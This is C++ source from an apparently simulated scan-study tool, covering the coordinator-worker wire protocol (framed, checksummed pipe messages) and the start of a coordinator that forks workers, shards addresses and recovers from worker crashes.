      throw ProtocolError("pipe read failed (errno " + std::to_string(errno) +
                          ")");
    }
    if (n == 0) throw ProtocolError("EOF inside a frame body");
    read_so_far += static_cast<std::size_t>(n);
  }
  return true;
}

void Channel::send(std::string_view frame) {
  if (frame.empty() || frame.size() > kMaxFrame) {
    throw ProtocolError("refusing to send a frame of " +
                        std::to_string(frame.size()) + " bytes");
  }
  const std::uint32_t length = static_cast<std::uint32_t>(frame.size());
  const unsigned char prefix[4] = {
      static_cast<unsigned char>(length & 0xFF),
      static_cast<unsigned char>((length >> 8) & 0xFF),
      static_cast<unsigned char>((length >> 16) & 0xFF),
      static_cast<unsigned char>((length >> 24) & 0xFF)};
  const auto write_all = [&](const char* data, std::size_t size) {
    std::size_t written = 0;
    while (written < size) {
      const ssize_t n = ::write(write_fd_, data + written, size - written);
      if (n < 0) {
        if (errno == EINTR) continue;
        throw ProtocolError("pipe write failed (errno " +
                            std::to_string(errno) + ")");
      }
      written += static_cast<std::size_t>(n);
    }
  };
  write_all(reinterpret_cast<const char*>(prefix), sizeof(prefix));
  write_all(frame.data(), frame.size());
}

std::string encode_hello(const HelloMsg& msg) {
  MessageBuilder b(MsgType::Hello);
  b.body().u32(msg.worker);
  b.body().u32(msg.generation);
  b.body().i64(msg.pid);
  return b.finish();
}

HelloMsg decode_hello(MessageView& view) {
  HelloMsg msg;
  msg.worker = view.body().u32();
  msg.generation = view.body().u32();
  msg.pid = view.body().i64();
  view.body().expect_done();
  return msg;
}

std::string encode_wave_req(const WaveReq& req) {
  MessageBuilder b(MsgType::WaveReq);
  snapshot::Writer& w = b.body();
  w.u64(req.seq);
  w.i64(req.clock_now);
  put_wave_ctx(w, req.ctx);
  w.u64(req.base);
  w.u64(req.items.size());
  for (const auto& item : req.items) {
    snapshot::put_address(w, item.address);
    w.str(item.recipient);
  }
  return b.finish();
}

WaveReq decode_wave_req(MessageView& view) {
  snapshot::Reader& r = view.body();
  WaveReq req;
  req.seq = r.u64();
  req.clock_now = r.i64();
  req.ctx = get_wave_ctx(r);
  req.base = r.u64();
  const std::uint64_t n = r.u64();
  req.recipients.reserve(n);
  req.items.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    const util::IpAddress address = snapshot::get_address(r);
    req.recipients.push_back(r.str());
    req.items.push_back(scan::WaveItem{address, req.recipients.back()});
  }
  r.expect_done();
  return req;
}

std::string encode_wave_rep(const WaveRep& rep) {
  MessageBuilder b(MsgType::WaveRep);
  snapshot::Writer& w = b.body();
  w.u64(rep.seq);
  w.u64(rep.slice.outcomes.size());
  for (const auto& outcome : rep.slice.outcomes) {
    snapshot::put_outcome(w, outcome);
  }
  w.i64(rep.slice.advance);
  snapshot::put_degradation(w, rep.slice.deg);
  w.u64(rep.query_count);
  put_trace(w, rep.slice.wave1);
  put_trace(w, rep.slice.wave2);
  put_metrics(w, rep.slice.metrics, !rep.slice.metrics.empty());
  return b.finish();
}

WaveRep decode_wave_rep(MessageView& view) {
  snapshot::Reader& r = view.body();
  WaveRep rep;
  rep.seq = r.u64();
  const std::uint64_t n = r.u64();
  rep.slice.outcomes.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    rep.slice.outcomes.push_back(snapshot::get_outcome(r));
  }
  rep.slice.advance = r.i64();
  rep.slice.deg = snapshot::get_degradation(r);
  rep.query_count = r.u64();
  rep.slice.wave1 = get_trace(r);
  rep.slice.wave2 = get_trace(r);
  rep.slice.metrics = get_metrics(r);
  r.expect_done();
  return rep;
}

std::string encode_requeue_req(const RequeueReq& req) {
  MessageBuilder b(MsgType::RequeueReq);
  snapshot::Writer& w = b.body();
  w.u64(req.seq);
  w.i64(req.clock_now);
  put_wave_ctx(w, req.ctx);
  w.u64(req.items.size());
  for (const auto& item : req.items) {
    w.u64(item.index);
    snapshot::put_address(w, item.item.address);
    w.str(item.item.recipient);
    snapshot::put_outcome(w, item.outcome);
  }
  return b.finish();
}

RequeueReq decode_requeue_req(MessageView& view) {
  snapshot::Reader& r = view.body();
  RequeueReq req;
  req.seq = r.u64();
  req.clock_now = r.i64();
  req.ctx = get_wave_ctx(r);
  const std::uint64_t n = r.u64();
  req.recipients.reserve(n);
  req.items.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    scan::RequeueItem item;
    item.index = r.u64();
    item.item.address = snapshot::get_address(r);
    req.recipients.push_back(r.str());
    item.item.recipient = req.recipients.back();
    item.outcome = snapshot::get_outcome(r);
    req.items.push_back(std::move(item));
  }
  r.expect_done();
  return req;
}

std::string encode_requeue_rep(const RequeueRep& rep) {
  MessageBuilder b(MsgType::RequeueRep);
  snapshot::Writer& w = b.body();
  w.u64(rep.seq);
  w.u64(rep.slice.outcomes.size());
  for (const auto& outcome : rep.slice.outcomes) {
    snapshot::put_outcome(w, outcome);
  }
  w.i64(rep.slice.advance);
  snapshot::put_degradation(w, rep.slice.deg);
  w.u64(rep.query_count);
  w.u64(rep.slice.recovered);
  put_trace(w, rep.slice.trace);
  put_metrics(w, rep.slice.metrics, !rep.slice.metrics.empty());
  return b.finish();
}

RequeueRep decode_requeue_rep(MessageView& view) {
  snapshot::Reader& r = view.body();
  RequeueRep rep;
  rep.seq = r.u64();
  const std::uint64_t n = r.u64();
  rep.slice.outcomes.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    rep.slice.outcomes.push_back(snapshot::get_outcome(r));
  }
  rep.slice.advance = r.i64();
  rep.slice.deg = snapshot::get_degradation(r);
  rep.query_count = r.u64();
  rep.slice.recovered = r.u64();
  rep.slice.trace = get_trace(r);
  rep.slice.metrics = get_metrics(r);
  r.expect_done();
  return rep;
}

std::string encode_observe_req(const ObserveReq& req) {
  MessageBuilder b(MsgType::ObserveReq);
  snapshot::Writer& w = b.body();
  w.u64(req.seq);
  w.i64(req.clock_now);
  put_observe_ctx(w, req.ctx);
  w.u64(req.jobs.size());
  for (const auto& wire : req.jobs) {
    snapshot::put_address(w, wire.job.address);
    w.u8(snapshot::encode_enum(wire.job.kind));
    w.u64(wire.job.slot);
    w.boolean(wire.patched);
    w.boolean(wire.blacklisted);
  }
  return b.finish();
}

ObserveReq decode_observe_req(MessageView& view) {
  snapshot::Reader& r = view.body();
  ObserveReq req;
  req.seq = r.u64();
  req.clock_now = r.i64();
  req.ctx = get_observe_ctx(r);
  const std::uint64_t n = r.u64();
  req.jobs.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    ObserveWireJob wire;
    wire.job.address = snapshot::get_address(r);
    wire.job.kind = snapshot::decode_test_kind(r.u8());
    wire.job.slot = r.u64();
    wire.patched = r.boolean();
    wire.blacklisted = r.boolean();
    req.jobs.push_back(wire);
  }
  r.expect_done();
  return req;
}

std::string encode_observe_rep(const ObserveRep& rep) {
  MessageBuilder b(MsgType::ObserveRep);
  snapshot::Writer& w = b.body();
  w.u64(rep.seq);
  w.u64(rep.slice.results.size());
  for (const auto result : rep.slice.results) {
    w.u8(snapshot::encode_enum(result));
  }
  w.i64(rep.slice.advance);
  snapshot::put_degradation(w, rep.slice.deg);
  w.u64(rep.query_count);
  put_trace(w, rep.slice.trace);
  put_metrics(w, rep.slice.metrics, !rep.slice.metrics.empty());
  return b.finish();
}

ObserveRep decode_observe_rep(MessageView& view) {
  snapshot::Reader& r = view.body();
  ObserveRep rep;
  rep.seq = r.u64();
  const std::uint64_t n = r.u64();
  rep.slice.results.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    rep.slice.results.push_back(snapshot::decode_observation(r.u8()));
  }
  rep.slice.advance = r.i64();
  rep.slice.deg = snapshot::get_degradation(r);
  rep.query_count = r.u64();
  rep.slice.trace = get_trace(r);
  rep.slice.metrics = get_metrics(r);
  r.expect_done();
  return rep;
}

std::string encode_capture_req(const CaptureReq& req) {
  MessageBuilder b(MsgType::CaptureReq);
  snapshot::Writer& w = b.body();
  w.u64(req.seq);
  w.u64(req.addresses.size());
  for (const auto& address : req.addresses) snapshot::put_address(w, address);
  return b.finish();
}

CaptureReq decode_capture_req(MessageView& view) {
  snapshot::Reader& r = view.body();
  CaptureReq req;
  req.seq = r.u64();
  const std::uint64_t n = r.u64();
  req.addresses.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    req.addresses.push_back(snapshot::get_address(r));
  }
  r.expect_done();
  return req;
}

std::string encode_capture_rep(const CaptureRep& rep) {
  MessageBuilder b(MsgType::CaptureRep);
  snapshot::Writer& w = b.body();
  w.u64(rep.seq);
  w.u64(rep.hosts.size());
  for (const auto& host : rep.hosts) {
    w.boolean(host.has_value());
    if (host.has_value()) snapshot::put_host_state(w, *host);
  }
  return b.finish();
}

CaptureRep decode_capture_rep(MessageView& view) {
  snapshot::Reader& r = view.body();
  CaptureRep rep;
  rep.seq = r.u64();
  const std::uint64_t n = r.u64();
  rep.hosts.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    if (r.boolean()) {
      rep.hosts.push_back(snapshot::get_host_state(r));
    } else {
      rep.hosts.push_back(std::nullopt);
    }
  }
  r.expect_done();
  return rep;
}

std::string encode_shutdown() { return MessageBuilder(MsgType::Shutdown).finish(); }

std::vector<util::IpAddress> partition_cuts(
    const std::vector<util::IpAddress>& sorted_addresses, std::size_t workers) {
  std::vector<util::IpAddress> cuts;
  const std::size_t n = sorted_addresses.size();
  const std::size_t shards = std::min(workers, n);
  if (shards <= 1) return cuts;
  const std::size_t base = n / shards;
  const std::size_t extra = n % shards;  // first `extra` shards get one more
  cuts.reserve(shards - 1);
  std::size_t begin = 0;
  for (std::size_t shard = 0; shard + 1 < shards; ++shard) {
    begin += base + (shard < extra ? 1 : 0);
    cuts.push_back(sorted_addresses[begin]);
  }
  return cuts;
}

std::size_t owner_of(const std::vector<util::IpAddress>& cuts,
                     const util::IpAddress& address) {
  return static_cast<std::size_t>(
      std::upper_bound(cuts.begin(), cuts.end(), address) - cuts.begin());
}

}  // namespace spfail::dist
