// Wire protocol between the scan coordinator and its worker processes
// (DESIGN.md §15).
//
// Framing: each message travels over a pipe as a u32 little-endian length
// prefix followed by that many payload bytes. The payload is one type byte,
// the body (snapshot::Writer field layout — the same codecs checkpoints
// use, via snapshot/fields.hpp), and a trailing fnv1a-64 checksum over
// everything before it. A truncated, oversized, or corrupt frame raises
// ProtocolError — the coordinator treats that like a worker crash, never as
// data.
//
// Every request that does work carries a sequence number and the
// coordinator's clock position at batch start; replies echo the seq so the
// exactly-once replay logic in the worker can match its checkpoint against
// the incoming request.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "longitudinal/study.hpp"
#include "scan/campaign.hpp"
#include "snapshot/codec.hpp"
#include "snapshot/snapshot.hpp"
#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::dist {

class ProtocolError : public std::runtime_error {
 public:
  explicit ProtocolError(const std::string& what)
      : std::runtime_error("dist protocol: " + what) {}
};

enum class MsgType : std::uint8_t {
  Hello = 1,    // worker -> coordinator, once per spawn
  WaveReq = 2,  // campaign wave slice
  WaveRep = 3,
  RequeueReq = 4,  // campaign re-queue slice
  RequeueRep = 5,
  ObserveReq = 6,  // longitudinal observation slice
  ObserveRep = 7,
  CaptureReq = 8,  // host-residue gather for checkpoints
  CaptureRep = 9,
  Shutdown = 10,  // coordinator -> worker, clean exit
};

std::string to_string(MsgType type);

// Builds one frame payload: type byte + body fields + trailing checksum.
class MessageBuilder {
 public:
  explicit MessageBuilder(MsgType type) {
    body_.u8(static_cast<std::uint8_t>(type));
  }
  snapshot::Writer& body() { return body_; }
  // Appends the checksum and hands over the finished payload.
  std::string finish();

 private:
  snapshot::Writer body_;
};

// Parses and verifies one frame payload. The view borrows `frame`; keep the
// frame alive while reading.
class MessageView {
 public:
  explicit MessageView(std::string_view frame);
  MsgType type() const noexcept { return type_; }
  snapshot::Reader& body() { return body_; }

 private:
  MsgType type_;
  snapshot::Reader body_;
};

// Length-prefixed pipe transport. EINTR is retried unconditionally — the
// cooperative-shutdown handler is installed without SA_RESTART, and only the
// coordinator's round loop acts on the flag, at round boundaries.
class Channel {
 public:
  Channel(int read_fd, int write_fd) : read_fd_(read_fd), write_fd_(write_fd) {}

  // Receives one frame; returns false on clean EOF at a frame boundary.
  // Throws ProtocolError on truncation, oversized length, or read error.
  bool receive(std::string& frame);
  // Sends one frame; throws ProtocolError on any write failure (EPIPE means
  // the peer died).
  void send(std::string_view frame);

  int read_fd() const noexcept { return read_fd_; }
  int write_fd() const noexcept { return write_fd_; }

 private:
  int read_fd_;
  int write_fd_;
};

// ---- message bodies ------------------------------------------------------
// Each request struct owns its storage (string recipients), with view-based
// items rebuilt on decode — the dist boundary is where the interner-backed
// string_views of the in-process path become owned bytes.

struct HelloMsg {
  std::uint32_t worker = 0;
  std::uint32_t generation = 0;
  std::int64_t pid = 0;
};

struct WaveReq {
  std::uint64_t seq = 0;
  util::SimTime clock_now = 0;
  scan::WaveContext ctx;
  std::uint64_t base = 0;  // master-order index of items[0]
  std::vector<std::string> recipients;  // backing store for items
  std::vector<scan::WaveItem> items;    // views into `recipients`
};

struct WaveRep {
  std::uint64_t seq = 0;
  scan::WaveSliceResult slice;  // slice.log stays empty over the wire
  // How many DNS query-log entries the worker's slice produced and did NOT
  // forward (DESIGN.md §15: per-entry logs stay worker-local; no output
  // depends on coordinator-side log contents in dist mode). The coordinator
  // aggregates these so dropped observability is visible, not silent.
  std::uint64_t query_count = 0;
};

struct RequeueReq {
  std::uint64_t seq = 0;
  util::SimTime clock_now = 0;
  scan::WaveContext ctx;
  std::vector<std::string> recipients;
  std::vector<scan::RequeueItem> items;
};

struct RequeueRep {
  std::uint64_t seq = 0;
  scan::RequeueSliceResult slice;
  std::uint64_t query_count = 0;  // see WaveRep::query_count
};

// An observation job plus the host flags the coordinator's (flag-current)
// fleet carries for its address. The worker applies them idempotently before
// probing, which keeps a respawned worker — forked before this round's
// patch/blacklist events — consistent with the coordinator's serial pre-pass.
struct ObserveWireJob {
  longitudinal::Study::ObserveJob job;
  bool patched = false;
  bool blacklisted = false;
};

struct ObserveReq {
  std::uint64_t seq = 0;
  util::SimTime clock_now = 0;
  longitudinal::Study::ObserveContext ctx;
  std::vector<ObserveWireJob> jobs;
};

struct ObserveRep {
  std::uint64_t seq = 0;
  longitudinal::Study::ObserveSliceResult slice;
  std::uint64_t query_count = 0;  // see WaveRep::query_count
};

struct CaptureReq {
  std::uint64_t seq = 0;
  std::vector<util::IpAddress> addresses;
};

struct CaptureRep {
  std::uint64_t seq = 0;
  // One entry per requested address, in request order; nullopt = no host.
  std::vector<std::optional<snapshot::StudySnapshot::HostState>> hosts;
};

std::string encode_hello(const HelloMsg& msg);
HelloMsg decode_hello(MessageView& view);

std::string encode_wave_req(const WaveReq& req);
WaveReq decode_wave_req(MessageView& view);
std::string encode_wave_rep(const WaveRep& rep);
WaveRep decode_wave_rep(MessageView& view);

std::string encode_requeue_req(const RequeueReq& req);
RequeueReq decode_requeue_req(MessageView& view);
std::string encode_requeue_rep(const RequeueRep& rep);
RequeueRep decode_requeue_rep(MessageView& view);

std::string encode_observe_req(const ObserveReq& req);
ObserveReq decode_observe_req(MessageView& view);
std::string encode_observe_rep(const ObserveRep& rep);
ObserveRep decode_observe_rep(MessageView& view);

std::string encode_capture_req(const CaptureReq& req);
CaptureReq decode_capture_req(MessageView& view);
std::string encode_capture_rep(const CaptureRep& rep);
CaptureRep decode_capture_rep(MessageView& view);

std::string encode_shutdown();

// Deterministic address-range partition of a sorted unique address list into
// `workers` near-equal contiguous shards — the ThreadPool split (n/w base,
// first n%w shards one larger) applied to the whole population once, so a
// host's owning worker never changes during a run. Returns the W-1 boundary
// addresses: worker k owns addresses in [cuts[k-1], cuts[k]) with the open
// ends at the extremes. Fewer addresses than workers yields fewer cuts.
std::vector<util::IpAddress> partition_cuts(
    const std::vector<util::IpAddress>& sorted_addresses, std::size_t workers);

// Which worker owns `address` under `cuts` (count of cuts <= address).
std::size_t owner_of(const std::vector<util::IpAddress>& cuts,
                     const util::IpAddress& address);

}  // namespace spfail::dist
