#include "dist/coordinator.hpp"

#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <iomanip>
#include <iostream>
#include <sstream>

namespace spfail::dist {

namespace {

void close_fd(int& fd) {
  if (fd >= 0) {
    ::close(fd);
    fd = -1;
  }
}

long env_long(const char* name, long fallback, long min_value) {
  const char* raw = std::getenv(name);
  if (raw == nullptr || *raw == '\0') return fallback;
  char* end = nullptr;
  const long value = std::strtol(raw, &end, 10);
  if (end == raw || *end != '\0' || value < min_value) return fallback;
  return value;
}

}  // namespace

std::uint32_t DistReport::total_restarts() const {
  std::uint32_t total = 0;
  for (const auto& w : workers) total += w.restarts;
  return total;
}

std::size_t DistReport::abandoned_count() const {
  std::size_t total = 0;
  for (const auto& w : workers) total += w.abandoned ? 1 : 0;
  return total;
}

std::uint64_t DistReport::items_lost() const {
  std::uint64_t total = 0;
  for (const auto& w : workers) total += w.items_lost;
  return total;
}

std::string DistReport::summary() const {
  std::ostringstream out;
  out << "Distributed scan degradation\n";
  out << "  " << std::left << std::setw(8) << "worker" << std::setw(10)
      << "restarts" << std::setw(11) << "abandoned" << "items lost\n";
  for (std::size_t i = 0; i < workers.size(); ++i) {
    const auto& w = workers[i];
    out << "  " << std::setw(8) << i << std::setw(10) << w.restarts
        << std::setw(11) << (w.abandoned ? "yes" : "no") << w.items_lost
        << "\n";
  }
  out << "  total: " << total_restarts() << " restart(s), " << abandoned_count()
      << " worker(s) abandoned, " << items_lost()
      << " item(s) marked inconclusive\n";
  return out.str();
}

Coordinator::Config Coordinator::resolve(Config config) {
  config.chunk = static_cast<std::size_t>(
      env_long("SPFAIL_DIST_CHUNK", static_cast<long>(config.chunk), 1));
  config.timeout_ms = env_long("SPFAIL_DIST_TIMEOUT_MS", config.timeout_ms, 1);
  return config;
}

Coordinator::Coordinator(population::Fleet& fleet, Config config)
    : fleet_(fleet), config_(resolve(std::move(config))) {
  if (config_.workers == 0) config_.workers = 1;
  // A worker death must surface as EPIPE/EOF on the pipe, never as a fatal
  // signal to the coordinator.
  ::signal(SIGPIPE, SIG_IGN);
  nonce_ = (static_cast<std::uint64_t>(::getpid()) << 32) |
           (static_cast<std::uint64_t>(
                std::chrono::steady_clock::now().time_since_epoch().count()) &
            0xffffffffull);
}

Coordinator::~Coordinator() { shutdown(); }

Channel Coordinator::worker_channel(std::size_t index) const {
  const WorkerSlot& slot = slots_.at(index);
  return Channel(slot.child_read, slot.child_write);
}

Channel Coordinator::parent_channel(std::size_t index) const {
  const WorkerSlot& slot = slots_.at(index);
  return Channel(slot.from_child, slot.to_child);
}

std::string Coordinator::worker_checkpoint_path(std::size_t index) const {
  if (config_.checkpoint_stem.empty()) return {};
  return config_.checkpoint_stem + ".w" + std::to_string(index);
}

bool Coordinator::spawn_once(std::size_t index) {
  WorkerSlot& slot = slots_[index];
  int req[2] = {-1, -1};
  int rep[2] = {-1, -1};
  if (::pipe(req) != 0) throw ProtocolError("pipe() failed");
  if (::pipe(rep) != 0) {
    ::close(req[0]);
    ::close(req[1]);
    throw ProtocolError("pipe() failed");
  }
  slot.child_read = req[0];
  slot.to_child = req[1];
  slot.from_child = rep[0];
  slot.child_write = rep[1];

  // Nothing buffered may cross the fork, or the child re-emits it.
  std::cout.flush();
  std::cerr.flush();
  std::fflush(nullptr);
  const pid_t pid = ::fork();
  if (pid < 0) {
    close_fd(slot.child_read);
    close_fd(slot.to_child);
    close_fd(slot.from_child);
    close_fd(slot.child_write);
    throw ProtocolError("fork() failed");
  }
  if (pid == 0) {
    // Child: keep only this slot's child ends. Holding any other descriptor
    // would mask sibling EOFs and leak pipes across respawn generations.
    for (std::size_t j = 0; j < slots_.size(); ++j) {
      WorkerSlot& other = slots_[j];
      close_fd(other.to_child);
      close_fd(other.from_child);
      if (j != index) {
        close_fd(other.child_read);
        close_fd(other.child_write);
      }
    }
    worker_main(*this, index, slot.generation);
  }
  slot.pid = pid;
  close_fd(slot.child_read);
  close_fd(slot.child_write);

  // Handshake: the worker announces itself before the first request, so a
  // spawn that dies instantly is caught here rather than mid-batch.
  struct pollfd pfd = {slot.from_child, POLLIN, 0};
  const auto deadline = std::chrono::steady_clock::now() +
                        std::chrono::milliseconds(config_.timeout_ms);
  for (;;) {
    const auto now = std::chrono::steady_clock::now();
    if (now >= deadline) break;
    const int wait_ms = static_cast<int>(
        std::chrono::duration_cast<std::chrono::milliseconds>(deadline - now)
            .count());
    const int rc = ::poll(&pfd, 1, std::max(wait_ms, 1));
    if (rc < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if (rc == 0) break;
    try {
      std::string frame;
      if (!parent_channel(index).receive(frame)) break;
      MessageView view(frame);
      if (view.type() != MsgType::Hello) break;
      const HelloMsg hello = decode_hello(view);
      if (hello.worker == index && hello.generation == slot.generation) {
        return true;
      }
    } catch (const ProtocolError&) {
    }
    break;
  }
  // Failed handshake: reap and release the pipes.
  ::kill(slot.pid, SIGKILL);
  ::waitpid(slot.pid, nullptr, 0);
  slot.pid = -1;
  close_fd(slot.to_child);
  close_fd(slot.from_child);
  return false;
}

void Coordinator::ensure_spawned() {
  if (spawned_) return;
  spawned_ = true;

  // Ownership boundaries: one partition of the whole population, computed
  // once, so a host's worker never changes across rounds or respawns.
  std::vector<util::IpAddress> addresses;
  addresses.reserve(fleet_.address_count());
  fleet_.target_source().for_each(
      [&](std::string_view, std::span<const util::IpAddress> list) {
        addresses.insert(addresses.end(), list.begin(), list.end());
      });
  std::sort(addresses.begin(), addresses.end());
  addresses.erase(std::unique(addresses.begin(), addresses.end()),
                  addresses.end());
  cuts_ = partition_cuts(addresses, config_.workers);

  slots_.resize(config_.workers);
  for (std::size_t w = 0; w < slots_.size(); ++w) {
    revive(w, "failed to start", 0);
  }
}

bool Coordinator::revive(std::size_t index, const std::string& why,
                         std::uint64_t seq) {
  WorkerSlot& slot = slots_[index];
  // The very first fork of a worker is free; every fork after it — whether
  // after a crash or a failed handshake — draws on the restart budget.
  bool initial = slot.pid < 0 && slot.generation == 0 && slot.restarts == 0;
  if (slot.pid >= 0) {
    std::cerr << "spfail dist: worker " << index << " (pid " << slot.pid
              << ") " << why;
    if (seq != 0) std::cerr << " at seq " << seq;
    std::cerr << "\n";
    ::kill(slot.pid, SIGKILL);
    ::waitpid(slot.pid, nullptr, 0);
    slot.pid = -1;
  }
  close_fd(slot.to_child);
  close_fd(slot.from_child);

  while (true) {
    if (!initial) {
      if (slot.restarts >= config_.restart_budget) {
        slot.abandoned = true;
        std::cerr << "spfail dist: worker " << index
                  << " exhausted its restart budget ("
                  << config_.restart_budget
                  << "); remaining items for its shard will be marked "
                     "inconclusive\n";
        return false;
      }
      ++slot.restarts;
      ++slot.generation;
    }
    if (spawn_once(index)) {
      if (!initial) {
        std::cerr << "spfail dist: worker " << index << " respawned (pid "
                  << slot.pid << ", restart " << slot.restarts << "/"
                  << config_.restart_budget << ", generation "
                  << slot.generation << ")\n";
      }
      return true;
    }
    initial = false;
  }
}

std::vector<Coordinator::Chunk> Coordinator::plan_chunks(
    std::size_t n, const std::function<std::size_t(std::size_t)>& owner) {
  std::vector<Chunk> chunks;
  std::size_t i = 0;
  while (i < n) {
    const std::size_t w = owner(i);
    std::size_t end = i + 1;
    while (end < n && end - i < config_.chunk && owner(end) == w) ++end;
    Chunk c;
    c.worker = w;
    c.first = i;
    c.count = end - i;
    c.seq = seq_++;
    chunks.push_back(std::move(c));
    i = end;
  }
  return chunks;
}

void Coordinator::run_chunks(
    std::vector<Chunk>& chunks, MsgType reply_type,
    const std::function<void(std::size_t, Chunk&, MessageView&)>& on_reply,
    const std::function<void(std::size_t, Chunk&)>& synthesize) {
  using clock = std::chrono::steady_clock;
  const auto timeout = std::chrono::milliseconds(config_.timeout_ms);

  std::vector<std::deque<std::size_t>> queues(slots_.size());
  std::size_t remaining = 0;

  const auto lose_chunk = [&](std::size_t ci) {
    synthesize(ci, chunks[ci]);
    slots_[chunks[ci].worker].items_lost += chunks[ci].count;
    chunks[ci].done = true;
  };

  for (std::size_t i = 0; i < chunks.size(); ++i) {
    if (slots_[chunks[i].worker].abandoned) {
      lose_chunk(i);
    } else {
      queues[chunks[i].worker].push_back(i);
      ++remaining;
    }
  }

  struct Outstanding {
    bool active = false;
    std::size_t chunk = 0;
    clock::time_point deadline;
  };
  std::vector<Outstanding> out(slots_.size());

  const auto fail_worker = [&](std::size_t w, const std::string& why) {
    const bool had = out[w].active;
    const std::size_t ci = had ? out[w].chunk : 0;
    std::string reason = why;
    while (true) {
      if (!revive(w, reason, had ? chunks[ci].seq : 0)) {
        if (had) {
          lose_chunk(ci);
          --remaining;
          out[w].active = false;
        }
        while (!queues[w].empty()) {
          lose_chunk(queues[w].front());
          queues[w].pop_front();
          --remaining;
        }
        return;
      }
      if (!had) return;
      try {
        // Resend the in-flight request verbatim — same seq — so the
        // respawned worker can replay its checkpointed reply.
        parent_channel(w).send(chunks[ci].request);
        out[w].deadline = clock::now() + timeout;
        return;
      } catch (const ProtocolError&) {
        reason = "died before accepting the resent request";
      }
    }
  };

  while (remaining > 0) {
    // Keep every live worker busy: one outstanding request each, in chunk
    // order, so sequence numbers arrive monotonically per worker.
    for (std::size_t w = 0; w < slots_.size(); ++w) {
      if (out[w].active || slots_[w].abandoned || queues[w].empty()) continue;
      const std::size_t ci = queues[w].front();
      queues[w].pop_front();
      out[w].active = true;
      out[w].chunk = ci;
      out[w].deadline = clock::now() + timeout;
      try {
        parent_channel(w).send(chunks[ci].request);
      } catch (const ProtocolError& e) {
        fail_worker(w, e.what());
      }
    }
    if (remaining == 0) break;

    std::vector<struct pollfd> fds;
    std::vector<std::size_t> fd_worker;
    auto first_deadline = clock::time_point::max();
    for (std::size_t w = 0; w < slots_.size(); ++w) {
      if (!out[w].active) continue;
      fds.push_back({slots_[w].from_child, POLLIN, 0});
      fd_worker.push_back(w);
      first_deadline = std::min(first_deadline, out[w].deadline);
    }
    if (fds.empty()) continue;

    auto now = clock::now();
    const long wait_ms =
        first_deadline <= now
            ? 0
            : std::chrono::duration_cast<std::chrono::milliseconds>(
                  first_deadline - now)
                  .count();
    const int rc = ::poll(fds.data(), fds.size(),
                          static_cast<int>(std::min(wait_ms, 60000L)));
    if (rc < 0) {
      if (errno == EINTR) continue;
      throw ProtocolError("poll() failed");
    }
    now = clock::now();
    for (std::size_t k = 0; k < fds.size(); ++k) {
      const std::size_t w = fd_worker[k];
      if (!out[w].active) continue;  // resolved earlier in this sweep
      if ((fds[k].revents & (POLLIN | POLLHUP | POLLERR)) != 0) {
        try {
          std::string frame;
          if (!parent_channel(w).receive(frame)) {
            throw ProtocolError("closed its pipe");
          }
          MessageView view(frame);
          if (view.type() != reply_type) {
            throw ProtocolError("sent " + to_string(view.type()) +
                                " when " + to_string(reply_type) +
                                " was expected");
          }
          const std::size_t ci = out[w].chunk;
          on_reply(ci, chunks[ci], view);
          chunks[ci].done = true;
          --remaining;
          out[w].active = false;
        } catch (const ProtocolError& e) {
          fail_worker(w, e.what());
        } catch (const snapshot::SnapshotError& e) {
          fail_worker(w, std::string("sent an undecodable reply: ") +
                             e.what());
        }
      } else if (now >= out[w].deadline) {
        fail_worker(w, "missed the reply deadline");
      }
    }
  }
}

std::vector<scan::WaveSliceResult> Coordinator::run_wave(
    scan::Campaign& campaign, std::span<const scan::WaveItem> items,
    const scan::WaveContext& ctx) {
  campaign_ = &campaign;
  ensure_spawned();
  auto chunks = plan_chunks(items.size(), [&](std::size_t i) {
    return owner_of(cuts_, items[i].address);
  });
  const util::SimTime now = fleet_.clock().now();
  for (auto& c : chunks) {
    WaveReq req;
    req.seq = c.seq;
    req.clock_now = now;
    req.ctx = ctx;
    req.base = c.first;
    req.items.assign(items.begin() + c.first,
                     items.begin() + c.first + c.count);
    c.request = encode_wave_req(req);
  }
  std::vector<scan::WaveSliceResult> slices(chunks.size());
  run_chunks(
      chunks, MsgType::WaveRep,
      [&](std::size_t ci, Chunk& c, MessageView& view) {
        WaveRep rep = decode_wave_rep(view);
        if (rep.seq != c.seq) {
          throw ProtocolError("replied to seq " + std::to_string(rep.seq) +
                              " instead of " + std::to_string(c.seq));
        }
        forwarded_queries_ += rep.query_count;
        slices[ci] = std::move(rep.slice);
      },
      [&](std::size_t ci, Chunk& c) {
        // Lost slice: every address keeps the default Refused outcome, the
        // same verdict an unreachable host earns.
        auto& slice = slices[ci];
        slice.outcomes.reserve(c.count);
        for (std::size_t k = 0; k < c.count; ++k) {
          scan::AddressOutcome outcome;
          outcome.address = items[c.first + k].address;
          slice.outcomes.push_back(std::move(outcome));
        }
      });
  campaign_ = nullptr;
  return slices;
}

std::vector<scan::RequeueSliceResult> Coordinator::run_requeue(
    scan::Campaign& campaign, std::span<const scan::RequeueItem> items,
    const scan::WaveContext& ctx) {
  campaign_ = &campaign;
  ensure_spawned();
  auto chunks = plan_chunks(items.size(), [&](std::size_t i) {
    return owner_of(cuts_, items[i].item.address);
  });
  const util::SimTime now = fleet_.clock().now();
  for (auto& c : chunks) {
    RequeueReq req;
    req.seq = c.seq;
    req.clock_now = now;
    req.ctx = ctx;
    req.items.assign(items.begin() + c.first,
                     items.begin() + c.first + c.count);
    c.request = encode_requeue_req(req);
  }
  std::vector<scan::RequeueSliceResult> slices(chunks.size());
  run_chunks(
      chunks, MsgType::RequeueRep,
      [&](std::size_t ci, Chunk& c, MessageView& view) {
        RequeueRep rep = decode_requeue_rep(view);
        if (rep.seq != c.seq) {
          throw ProtocolError("replied to seq " + std::to_string(rep.seq) +
                              " instead of " + std::to_string(c.seq));
        }
